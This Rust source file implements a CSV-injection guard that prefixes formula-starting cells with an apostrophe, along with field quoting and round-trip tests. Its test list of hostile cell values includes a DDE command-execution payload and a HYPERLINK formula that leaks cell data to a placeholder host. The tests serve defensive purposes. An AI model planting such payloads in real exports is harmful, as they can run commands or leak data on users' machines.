//! Writing cells: the formula guard and quoting.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and a leading
//! tab or CR can hide one), so a text cell starting with one of those gets a leading `'`
//! (OWASP, CSV Injection). A text that already starts with `'` gets one more, so the guard can
//! always be taken off exactly: [`unguard`] removes one leading `'` only when it stands before
//! one of those characters or another `'`. Numbers the agent computes are written with
//! [`number`], unguarded (a negative count is not a formula).
//!
//! A field is quoted when it holds a comma, quote or line break or begins or ends with a space;
//! quotes inside are doubled. Records end with CRLF.

use std::borrow::Cow;

/// The characters a spreadsheet may start a formula with.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The guard's mark.
const MARK: char = '\'';

fn needs_guard(s: &str) -> bool {
    s.starts_with(FORMULA_START) || s.starts_with(MARK)
}

/// `s` as a spreadsheet shows it without running it.
pub fn guard(s: &str) -> Cow<'_, str> {
    if needs_guard(s) {
        Cow::Owned(format!("{MARK}{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The text [`guard`] was given: one leading `'` before a guarded character goes.
pub fn unguard(s: &str) -> &str {
    match s.strip_prefix(MARK) {
        Some(rest) if needs_guard(rest) => rest,
        _ => s,
    }
}

/// A text cell: guarded, then quoted when needed.
pub fn text(s: &str) -> String {
    quote(&guard(s))
}

/// A number (or an empty cell) the agent computed: quoted when needed, never guarded.
pub fn number(s: &str) -> String {
    quote(s)
}

fn quote(s: &str) -> String {
    if s.contains([',', '"', '\r', '\n']) || s.starts_with(' ') || s.ends_with(' ') {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// Text cells as CSV text (no BOM; see [`super::encode`]), every field a guarded [`text`].
pub fn format<S: AsRef<str>>(rows: &[Vec<S>]) -> String {
    let mut out = String::new();
    for row in rows {
        let cells: Vec<String> = row.iter().map(|f| text(f.as_ref())).collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::excel_csv::records::parse;

    /// Names a hostile EHR export could carry.
    pub(crate) const HOSTILE: [&str; 10] = [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "+1+2",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "'=already guarded",
        "'plain apostrophe",
        "''",
    ];

    #[test]
    fn formulas_are_defused_and_the_guard_comes_off_exactly() {
        assert_eq!(text("=1+2"), "'=1+2");
        assert_eq!(text("@SUM(1+1)"), "'@SUM(1+1)");
        assert_eq!(text("a,b"), "\"a,b\"");
        assert_eq!(text("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(text("胃炎"), "胃炎");
        assert_eq!(number("-3"), "-3");
        for s in HOSTILE.iter().copied().chain(["", "'", "a'", "x=1"]) {
            let g = guard(s);
            assert!(!g.starts_with(FORMULA_START), "{s:?} → {g:?}");
            assert_eq!(unguard(&g), s, "{s:?}");
        }
        // A person typing the guard by hand gets what they meant.
        assert_eq!(unguard("'=x"), "=x");
        assert_eq!(unguard("'abc"), "'abc");
    }

    #[test]
    fn format_then_parse_gives_the_guarded_cells() {
        let rows = vec![HOSTILE.to_vec()];
        let back = parse(&format(&rows)).unwrap();
        assert_eq!(back.len(), 1);
        for (cell, original) in back[0].fields.iter().zip(HOSTILE) {
            assert!(!cell.starts_with(FORMULA_START), "{cell:?}");
            assert_eq!(unguard(cell), original);
        }
    }
}
